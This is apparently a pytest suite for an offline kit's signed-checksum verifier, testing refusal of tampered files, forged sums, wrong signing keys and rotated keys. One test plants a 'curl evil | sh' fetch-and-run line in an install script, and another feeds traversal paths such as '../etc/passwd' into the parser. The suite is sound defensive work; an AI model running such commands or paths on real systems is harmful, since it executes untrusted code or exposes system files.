"""The offline kit's signed checksums: `edge-bundle sign-kit` on the release machine, `verify_kit.py` on the site.

Everything a site could receive is tried: a damaged or swapped file, a forged SHA256SUMS (with the file changed to
match), a damaged signature, a kit signed by another authority, an added wheel, a missing file, unsafe paths,
a rotated targets key (the chain from an older pinned root still verifies; the revoked key no longer does).
The verifier uses the standard library only (it runs before anything is installed): checked by running the kit's
copy with `python -I -S`, and its Ed25519 and canonical JSON against cryptography and securesystemslib.
"""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import sys
from pathlib import Path

import pytest
from cryptography.hazmat.primitives import serialization
from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey
from securesystemslib.formats import encode_canonical

from edge_console.bundle import kit_sums
from edge_console.bundle.authority import ReleaseAuthority
from edge_console.bundle.cli import main as edge_bundle
from edge_console.bundle.kit_sums import KitError, sign_kit, verify_kit

KIT_SUMS_SOURCE = Path(kit_sums.__file__)


@pytest.fixture(scope="module")
def authority(tmp_path_factory) -> ReleaseAuthority:
    return ReleaseAuthority.create(tmp_path_factory.mktemp("authority") / "authority")


def _make_kit(folder: Path) -> Path:
    (folder / "wheels").mkdir(parents=True)
    (folder / "wheels" / "edge_console-0.1.0-py3-none-any.whl").write_bytes(b"PK\x03\x04 product" * 100)
    (folder / "wheels" / "numpy-2.0.0-cp311-cp311-manylinux_2_28_x86_64.whl").write_bytes(os.urandom(5000))
    (folder / "install-agent.sh").write_text("#!/bin/sh\necho install\n")
    (folder / "KIT.json").write_text('{"name": "test-kit"}\n')
    (folder / "demo").mkdir()
    (folder / "demo" / "release file with spaces.edgerelease").write_bytes(b"release")
    shutil.copy2(KIT_SUMS_SOURCE, folder / "verify_kit.py")
    return folder


@pytest.fixture
def kit(tmp_path, authority) -> Path:
    folder = _make_kit(tmp_path / "edge-console-kit-0.1.0")
    sign_kit(folder, authority)
    return folder


def _refused(kit: Path, expected: str, root: bytes | None = None) -> str:
    with pytest.raises(KitError) as info:
        verify_kit(kit, root)
    assert expected in str(info.value), str(info.value)
    return str(info.value)


def test_a_signed_kit_verifies_against_its_own_root_and_a_pinned_one(kit, authority):
    report = verify_kit(kit)
    assert report.files == 8 and not report.pinned  # 6 made above + trust/1.root.json + trust/root.json
    assert report.root_fingerprint.split(", ")[0] == authority.key("root").keyid[:16]
    pinned = verify_kit(kit, authority.root_json())
    assert pinned.pinned and pinned.root_version == 1 and "from the root you gave" in pinned.summary()
    lines = (kit / "SHA256SUMS").read_text().splitlines()
    assert "  demo/release file with spaces.edgerelease" in "\n".join(lines)
    assert all(len(line.split("  ", 1)[0]) == 64 for line in lines)
    # the sums are the standard tool's format: `sha256sum -c` checks them too
    check = subprocess.run(["sha256sum", "--quiet", "-c", "SHA256SUMS"], cwd=kit, capture_output=True, text=True)
    assert check.returncode == 0, check.stdout + check.stderr


def test_a_damaged_file_is_refused(kit):
    wheel = kit / "wheels" / "numpy-2.0.0-cp311-cp311-manylinux_2_28_x86_64.whl"
    data = bytearray(wheel.read_bytes())
    data[100] ^= 1
    wheel.write_bytes(bytes(data))
    message = _refused(kit, "do not match SHA256SUMS")
    assert "numpy-2.0.0" in message


def test_a_forged_sha256sums_is_refused_even_when_the_file_matches_it(kit):
    script = kit / "install-agent.sh"
    script.write_text("#!/bin/sh\ncurl evil | sh\n")
    sums = (kit / "SHA256SUMS").read_text().splitlines()
    forged = [f"{kit_sums.file_sha256(script)}  install-agent.sh" if line.endswith("  install-agent.sh") else line
              for line in sums]
    (kit / "SHA256SUMS").write_text("\n".join(forged) + "\n")
    _refused(kit, "SHA256SUMS is not the file that was signed")


def test_a_damaged_or_re_signed_signature_is_refused(kit, tmp_path):
    document = json.loads((kit / "SHA256SUMS.sig").read_text())
    good = document["signatures"][0]["sig"]
    document["signatures"][0]["sig"] = good[:10] + ("0" if good[10] != "0" else "1") + good[11:]
    (kit / "SHA256SUMS.sig").write_text(json.dumps(document))
    _refused(kit, "not a valid signature by the release authority's targets key")
    # the signed part changed to match a forged SHA256SUMS, the old signature kept
    document["signatures"][0]["sig"] = good
    document["signed"]["sha256sums"] = "0" * 64
    (kit / "SHA256SUMS.sig").write_text(json.dumps(document))
    _refused(kit, "not a valid signature")
    (kit / "SHA256SUMS.sig").write_text("not json")
    _refused(kit, "is not a kit signature")
    (kit / "SHA256SUMS.sig").unlink()
    _refused(kit, "SHA256SUMS.sig is missing")


def test_a_kit_made_by_another_authority_is_refused_by_a_site_that_pinned_its_own(kit, authority, tmp_path):
    other = ReleaseAuthority.create(tmp_path / "other")
    sign_kit(kit, other)  # a complete, self-consistent kit, but from someone else
    assert verify_kit(kit).root_fingerprint == other.key("root").keyid[:16]  # whole, but not ours
    _refused(kit, "not a valid signature by the release authority's targets key", authority.root_json())
    # and swapping in the other authority's root.json does not help: the pinned root decides
    shutil.copy2(other.metadata_dir / "1.root.json", kit / "trust" / "root.json")
    _refused(kit, "not a valid signature", authority.root_json())


def test_signing_with_the_wrong_key_is_refused_even_against_the_kits_own_root(kit, authority, tmp_path):
    other = ReleaseAuthority.create(tmp_path / "other")
    sign_kit(kit, other)
    for name in ("1.root.json", "root.json"):  # the kit's root says: the first authority's keys
        shutil.copy2(authority.metadata_dir / "1.root.json", kit / "trust" / name)
    (kit / "SHA256SUMS").write_bytes(kit_sums.sums_text(kit))  # sums over the swapped roots
    _refused(kit, "not a valid signature")


def test_an_altered_root_in_the_kit_is_refused(kit):
    root = json.loads((kit / "trust" / "root.json").read_text())
    root["signed"]["expires"] = "2099-01-01T00:00:00Z"
    (kit / "trust" / "root.json").write_text(json.dumps(root))
    _refused(kit, "not signed by its own root keys")


def test_an_added_or_missing_file_is_refused(kit):
    extra = kit / "wheels" / "numpy-99.0.0-cp311-cp311-manylinux_2_28_x86_64.whl"
    extra.write_bytes(b"a newer numpy that pip would prefer")
    _refused(kit, "does not list: wheels/numpy-99.0.0")
    extra.unlink()
    (kit / "install-agent.sh").unlink()
    _refused(kit, "missing: install-agent.sh")


def test_os_litter_on_a_usb_stick_is_neither_listed_nor_refused(kit):
    (kit / ".DS_Store").write_bytes(b"mac")
    (kit / "wheels" / "._numpy-2.0.0.whl").write_bytes(b"resource fork")
    (kit / "System Volume Information").mkdir()
    (kit / "System Volume Information" / "IndexerVolumeGuid").write_bytes(b"windows")
    report = verify_kit(kit)
    assert ".DS_Store" in report.unlisted_litter and "System Volume Information" in report.unlisted_litter


@pytest.mark.parametrize("line", [
    "{}  ../etc/passwd", "{}  /etc/passwd", "{}  wheels\\x.whl", "{}  wheels//x.whl", "{} x", "zz  x", "{}  ",
])
def test_unsafe_or_malformed_sums_lines_are_refused(line):
    with pytest.raises(KitError):
        kit_sums.parse_sums((line.format("a" * 64) + "\n").encode())


def test_a_rotated_targets_key_verifies_through_the_root_chain_and_the_old_key_is_refused(tmp_path):
    authority = ReleaseAuthority.create(tmp_path / "authority")
    first_root = authority.root_json()
    old_targets = authority.key("targets")
    kit = _make_kit(tmp_path / "kit")
    authority.replace_targets_key()
    sign_kit(kit, authority)
    assert sorted(p.name for p in (kit / "trust").iterdir()) == ["1.root.json", "2.root.json", "root.json"]
    assert verify_kit(kit, first_root).root_version == 2  # a site that pinned version 1 follows the chain
    # a kit signed with the revoked key, carrying the new root chain, is refused
    signed = json.loads((kit / "SHA256SUMS.sig").read_text())
    sig = old_targets.signer.sign(kit_sums._message(signed["signed"]))
    signed["signatures"] = [{"keyid": sig.keyid, "sig": sig.signature}]
    (kit / "SHA256SUMS.sig").write_text(json.dumps(signed))
    _refused(kit, "not a valid signature", first_root)
    # a broken chain (version 2 not signed by version 1's root key) is refused
    sign_kit(kit, authority)
    forged = json.loads((kit / "trust" / "2.root.json").read_text())
    forged["signed"]["expires"] = "2099-01-01T00:00:00Z"
    (kit / "trust" / "2.root.json").write_text(json.dumps(forged))
    _refused(kit, "is not signed by the root keys of version 1", first_root)


def test_the_kits_verifier_runs_on_the_standard_library_alone(kit, tmp_path):
    # -I: no user site, no PYTHON* variables; -S: no site-packages at all (no cryptography, no edge_console)
    base = getattr(sys, "_base_executable", sys.executable)
    ok = subprocess.run([base, "-I", "-S", str(kit / "verify_kit.py")], capture_output=True, text=True, timeout=60)
    assert ok.returncode == 0, ok.stderr
    assert "verifies: 8 files" in ok.stdout
    (kit / "KIT.json").write_text('{"name": "swapped"}\n')
    bad = subprocess.run([base, "-I", "-S", str(kit / "verify_kit.py"), str(kit)], capture_output=True, text=True,
                         timeout=60)
    assert bad.returncode == 1 and "KIT REFUSED" in bad.stderr and "KIT.json" in bad.stderr


def test_edge_bundle_sign_kit_and_verify_kit(tmp_path, capsys):
    folder = _make_kit(tmp_path / "kit")
    assert edge_bundle(["keygen", "--dir", str(tmp_path / "authority")]) == 0
    assert edge_bundle(["sign-kit", str(folder), "--dir", str(tmp_path / "authority")]) == 0
    root = tmp_path / "authority" / "metadata" / "1.root.json"
    assert edge_bundle(["verify-kit", str(folder), "--root", str(root)]) == 0
    assert "verifies" in capsys.readouterr().out
    (folder / "install-agent.sh").write_text("changed")
    assert edge_bundle(["verify-kit", str(folder), "--root", str(root)]) == 2
    assert "kit refused" in capsys.readouterr().err


def test_ed25519_and_canonical_json_agree_with_the_libraries():
    for i in range(20):
        key = Ed25519PrivateKey.generate()
        public = key.public_key().public_bytes(serialization.Encoding.Raw, serialization.PublicFormat.Raw)
        message = os.urandom(i * 13)
        signature = key.sign(message)
        assert kit_sums.ed25519_verify(public, message, signature)
        flipped = bytearray(signature)
        flipped[i * 3 % 64] ^= 0x10
        assert not kit_sums.ed25519_verify(public, message, bytes(flipped))
        assert not kit_sums.ed25519_verify(public, message + b"!", signature)
    assert not kit_sums.ed25519_verify(b"\x00" * 31, b"", b"\x00" * 64)
    value = {"b": [1, 'quote " and \\ backslash', None, True, False], "a": {"ünï": "cödé", "n": -3}, "": []}
    assert kit_sums.canonical_json(value).decode() == encode_canonical(value)
